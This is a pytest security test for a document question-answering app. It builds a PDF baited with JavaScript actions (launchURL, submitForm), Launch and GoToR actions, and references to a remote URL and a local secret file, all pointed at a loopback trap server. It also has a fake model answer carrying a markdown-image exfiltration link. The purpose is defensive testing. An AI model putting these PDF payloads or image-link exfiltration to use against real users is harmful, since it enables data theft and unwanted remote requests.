"""Nothing in a document makes the server ask for anything: no address is fetched, no file read, no script run."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

import pytest
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import DictionaryObject, NameObject, StreamObject, TextStringObject

from shared_utils.generation.fallback import Engine
from src.events import AnswerFinished
from src.ingestion import IndexedDocument
from src.rag_with_generation import Rag, pages_of
from src.writing import Writer
from tests.conftest import source
from tests.fakes import FakeGenerator, never
from tests.shared_utils.pdf import pdfs

pytestmark = pytest.mark.enable_socket
SECRET = "the-contents-of-another-file"


class Trap:
    """An address on the loopback that remembers whether anybody came."""

    def __init__(self) -> None:
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._listener.getsockname()[1]}"
        self.visits = 0
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while True:
            try:
                visitor, _ = self._listener.accept()
            except OSError:
                return
            self.visits += 1
            visitor.close()

    def close(self) -> None:
        with suppress(OSError):  # closed before
            self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()
        self._thread.join()


@pytest.fixture
def trap() -> Iterator[Trap]:
    trap = Trap()
    yield trap
    trap.close()


def baited(url: str, secret_file: Path) -> bytes:
    """A page of addresses, with every action and reference that makes some reader of PDFs go and look."""
    text = f"The rent is 940 euros; see {url}/text and ![x]({url}/image)."

    def bait(writer: PdfWriter) -> None:
        writer.add_annotation(0, Link(rect=(0, 0, 600, 700), url=f"{url}/link"))
        script = action("/JavaScript", url)
        script[NameObject("/JS")] = TextStringObject(
            f'app.launchURL("{url}/script", true); this.submitForm("{url}/form");'
        )
        writer.root_object[NameObject("/OpenAction")] = script
        whenever = {NameObject("/O"): action("/GoToR", url), NameObject("/C"): action("/Launch", url)}
        writer.pages[0][NameObject("/AA")] = DictionaryObject(whenever)
        for name, where in (("/Remote", url), ("/Local", str(secret_file))):
            elsewhere = StreamObject()
            elsewhere[NameObject("/F")] = TextStringObject(where)
            elsewhere[NameObject("/Type")] = NameObject("/XObject")
            elsewhere[NameObject("/Subtype")] = NameObject("/Form")
            writer.pages[0][NameObject(name)] = writer._add_object(elsewhere)

    return pdfs.edited(pdfs.pdf(pdfs.lines(text, size=9)), bait)


def action(kind: str, target: str) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject(kind), NameObject("/F"): TextStringObject(target)})


def test_a_document_that_is_read_drawn_and_asked_about_reaches_nobody(rag: Rag, tmp_path: Path, trap: Trap) -> None:
    secret_file = tmp_path / "secret.txt"
    secret_file.write_text(SECRET)
    path = pdfs.written(tmp_path, baited(trap.url, secret_file))
    versions: list[IndexedDocument] = []
    for _ in rag.ingest(source(path), versions.append, cancelled=never):
        pass
    document = versions[-1]
    rag.viewer.draw(path, 1, width_px=600)
    obedient = FakeGenerator(words=(f"The rent is 940 euros [1]. ![x]({trap.url}/model)",))
    writers = [Writer(Engine("ollama", obedient), obedient.model, local=True)]
    events = list(rag.ask("How high is the rent?", [document], writers=lambda: writers, cancelled=never))

    assert isinstance(events[-1], AnswerFinished)
    assert obedient.prompts, "the model was asked"
    assert SECRET not in "".join(page.text for page in pages_of([document]).values())
    with socket.create_connection(("127.0.0.1", int(trap.url.rpartition(":")[2])), timeout=5):
        pass  # the trap works: this one visit is ours
    trap.close()
    assert trap.visits == 1
